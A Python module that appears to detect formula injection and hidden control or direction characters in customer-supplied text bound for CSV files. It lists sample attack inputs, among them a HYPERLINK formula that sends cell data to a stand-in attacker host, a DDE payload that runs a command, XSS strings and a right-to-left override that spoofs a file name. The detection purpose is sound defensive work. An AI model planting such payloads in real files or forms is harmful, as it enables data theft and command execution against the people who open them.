"""What a customer may have typed into a form, and what must not come of it in a file that people open."""

import csv
import io
import re
import unicodedata

PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    ";=1+1",
    "a;=1+1",
    "a; =1+1",
    'a";=1+1',
    "\t=1+1",
    "a\t=1+1",
    "a\n=1+1",
    "a\r=1+1",
    " =1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    '"=1+1',
    "a|=1+1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "{{ 7 * 7 }}",
    "Ana \u202egnp.exe",
    "\u2066Ana\u2069",
    "\x1b[2J\x1b]0;x\x07",
    "Ana\x00\x08\x7f\x9b",
)
_STARTS = "=+-@＝＋－＠"
_NUMBER = re.compile(r"-[0-9.]+")  # a figure below zero is none
_JOINERS = "\u200c\u200d\u00ad"  # scripts, emoji and hyphenation need them


def find_formula(text: str) -> list[str]:
    """Return the cells that a program would run, whichever separator it takes, with quotes or without."""
    cells = []
    for separator in ",;\t|":
        cells += [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]
        quoted = re.split(rf"[{separator}\n\r]", text)
        cells += [piece.strip('"') for piece in quoted if separator != ","]
    shown = (cell for cell in cells if not _NUMBER.fullmatch(cell))
    return [cell for cell in shown if cell.lstrip(" \t\r\n\ufeff\u200b")[:1] in tuple(_STARTS)]


def find_unseen(text: str) -> list[str]:
    """Return the control and direction characters of a text; line ends and tabs are none."""
    kinds = {"Cc", "Cf", "Zl", "Zp"}
    visible = "\t\n" + _JOINERS
    signs = [
        sign for sign in text.replace("\r\n", "\n") if unicodedata.category(sign) in kinds and sign not in visible
    ]
    arabic = range(0x600, 0x606)  # signs of numbers, which are seen
    return [sign for sign in signs if ord(sign) not in arabic and ord(sign) not in _SEEN]


_SEEN = {
    0x6DD,
    0x70F,
    0x890,
    0x891,
    0x8E2,
    0x110BD,
    0x110CD,
    *range(0x13430, 0x13460),
    *range(0x1BCA0, 0x1BCA4),
    *range(0x1D173, 0x1D17B),
}
